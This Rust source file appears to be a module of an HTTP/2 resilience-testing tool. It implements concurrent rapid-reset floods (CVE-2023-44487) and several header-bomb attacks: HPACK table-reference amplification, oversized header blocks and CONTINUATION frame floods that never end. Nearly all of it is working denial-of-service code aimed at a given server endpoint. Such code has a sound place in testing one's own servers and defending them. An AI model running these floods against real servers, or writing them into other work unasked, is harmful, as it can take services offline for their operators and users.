//! What HTTP/2 servers fell to: rapid resets (CVE-2023-44487) and header bombs.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, timeout};

use super::Told;
use super::raw::{
    CONTINUATION, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, connect, export_headers, frame,
    opening,
};
use crate::report::thousands;

/// Attackers at a time.
const ATTACKERS: usize = 16;

/// Streams that are begun and reset in one write.
const BURST: u32 = 100;

/// How long an edge may take for one write; far above what it should.
const PATIENCE: Duration = Duration::from_secs(20);

/// Bytes of a block of headers that does not end, at which it is given up.
const ENDLESS: usize = 16 * 1024 * 1024;

#[derive(Default)]
struct Counts {
    /// Streams that were begun and reset, as far as writing them goes; or bombs.
    sent: AtomicU64,
    connections: AtomicU64,
    /// Connections on which the edge took everything and waited for more.
    endured: AtomicU64,
}

impl Counts {
    fn told(&self, label: &'static str) -> Told {
        let of = |count: &AtomicU64| thousands(count.load(Ordering::Relaxed));
        let note = format!("on {} connections", of(&self.connections));
        let mut told = Told { rows: vec![(label, of(&self.sent), note)], ..Told::default() };
        let endured = self.endured.load(Ordering::Relaxed);
        if endured > 0 {
            told.failure = Some(format!("{} were taken in without end", thousands(endured)));
        }
        told
    }
}

/// When a flood is over: when there was as much of it as asked for, and not before its time.
#[derive(Clone, Copy)]
struct End {
    count: u64,
    at: Instant,
}

impl End {
    fn new(count: u64, hold: Duration) -> Self {
        Self { count, at: Instant::now() + hold }
    }

    fn is_there(self, sent: u64) -> bool {
        sent >= self.count && Instant::now() >= self.at
    }
}

/// Begins and resets `count` streams, and more until `hold` is over.
pub(super) async fn resets(endpoint: SocketAddr, count: u64, hold: Duration) -> Told {
    let (counts, end) = (Arc::new(Counts::default()), End::new(count, hold));
    let mut attackers = JoinSet::new();
    for _ in 0..ATTACKERS {
        let counts = Arc::clone(&counts);
        attackers.spawn(async move {
            while !end.is_there(counts.sent.load(Ordering::Relaxed)) {
                reset_on_one_connection(endpoint, end, &counts).await;
            }
        });
    }
    attackers.join_all().await;
    counts.told("resets written")
}

/// Goes on until the edge ends it.
async fn reset_on_one_connection(endpoint: SocketAddr, end: End, counts: &Counts) {
    let Ok((mut write, reading)) = connect(endpoint, &opening()).await else {
        return sleep(Duration::from_millis(10)).await;
    };
    counts.connections.fetch_add(1, Ordering::Relaxed);
    let headers = export_headers();
    let mut stream = 1;
    while !end.is_there(counts.sent.load(Ordering::Relaxed)) {
        let mut bytes = Vec::new();
        for _ in 0..BURST {
            bytes.extend(frame(HEADERS, END_HEADERS, stream, &headers));
            // CANCEL
            bytes.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
            stream += 2;
        }
        match timeout(PATIENCE, write.write_all(&bytes)).await {
            Ok(Ok(())) => {
                counts.sent.fetch_add(BURST.into(), Ordering::Relaxed);
            }
            Ok(Err(_)) | Err(_) => break,
        }
        // So that the edge begins some of them before it hears of the next.
        tokio::task::yield_now().await;
    }
    reading.abort();
}

/// A way to make a server remember much.
#[derive(Debug, Clone, Copy)]
enum Bomb {
    /// A kilobyte in the table, and a frame of one-byte references to it, on several streams.
    References,
    /// A quarter of a mebibyte of headers in one block.
    Huge,
    /// A block of headers that does not end.
    Endless,
    /// The same, of empty frames.
    EndlessEmpty,
}

const BOMBS: [Bomb; 4] = [Bomb::References, Bomb::Huge, Bomb::Endless, Bomb::EndlessEmpty];

/// Makes `count` connections with a bomb on each, and more until `hold` is over.
pub(super) async fn bombs(endpoint: SocketAddr, count: u64, hold: Duration) -> Told {
    let (counts, end) = (Arc::new(Counts::default()), End::new(count, hold));
    let mut attackers = JoinSet::new();
    for _ in 0..ATTACKERS {
        let counts = Arc::clone(&counts);
        attackers.spawn(async move {
            while !end.is_there(counts.sent.load(Ordering::Relaxed)) {
                let number = counts.sent.fetch_add(1, Ordering::Relaxed);
                let index = usize::try_from(number).unwrap_or_default();
                throw(endpoint, BOMBS[index % BOMBS.len()], &counts).await;
            }
        });
    }
    attackers.join_all().await;
    counts.told("header bombs")
}

/// Throws one, and waits for what the edge makes of it.
async fn throw(endpoint: SocketAddr, bomb: Bomb, counts: &Counts) {
    let Ok((mut write, reading)) = connect(endpoint, &opening()).await else {
        return sleep(Duration::from_millis(10)).await;
    };
    counts.connections.fetch_add(1, Ordering::Relaxed);
    let thrown = async {
        match bomb {
            Bomb::References => {
                let (first, next) = references();
                write.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, 1, &first)).await?;
                for stream in (3..40).step_by(2) {
                    let bytes = frame(HEADERS, END_HEADERS | END_STREAM, stream, &next);
                    write.write_all(&bytes).await?;
                }
            }
            Bomb::Huge => {
                write.write_all(&frame(HEADERS, END_STREAM, 1, &export_headers())).await?;
                let literal = literals();
                for number in 0..16 {
                    let flags = if number == 15 { END_HEADERS } else { 0 };
                    write.write_all(&frame(CONTINUATION, flags, 1, &literal)).await?;
                }
            }
            Bomb::Endless | Bomb::EndlessEmpty => {
                write.write_all(&frame(HEADERS, END_STREAM, 1, &export_headers())).await?;
                let piece = match bomb {
                    Bomb::Endless => frame(CONTINUATION, 0, 1, &literals()),
                    _ => frame(CONTINUATION, 0, 1, &[]).repeat(1000),
                };
                for _ in 0..ENDLESS / piece.len() {
                    write.write_all(&piece).await?;
                }
                counts.endured.fetch_add(1, Ordering::Relaxed);
            }
        }
        std::io::Result::Ok(())
    };
    // An error is the edge's answer.
    drop(timeout(PATIENCE, thrown).await);
    // It may close, or answer and stay.
    drop(timeout(Duration::from_millis(100), reading).await);
}

/// A block that puts a kilobyte into the table and refers to it, and one that refers to it only.
fn references() -> (Vec<u8>, Vec<u8>) {
    // With incremental indexing, a new name of one byte, a value of 1000.
    let mut first = export_headers();
    first.extend_from_slice(&[0x40, 1, b'x', 0x7f, 0xe9, 0x06]);
    first.resize(first.len() + 1000, b'y');
    let mut next = export_headers();
    // The youngest entry of the table has number 62.
    let youngest = 0xbe;
    first.resize(first.len() + 4000, youngest);
    next.resize(next.len() + 16_000, youngest);
    (first, next)
}

/// 16 KiB of headers that are not remembered, each 100 bytes.
fn literals() -> Vec<u8> {
    let mut block = Vec::new();
    while block.len() < 16_000 {
        block.extend_from_slice(&[0x00, 1, b'x', 96]);
        block.resize(block.len() + 96, b'y');
    }
    block
}
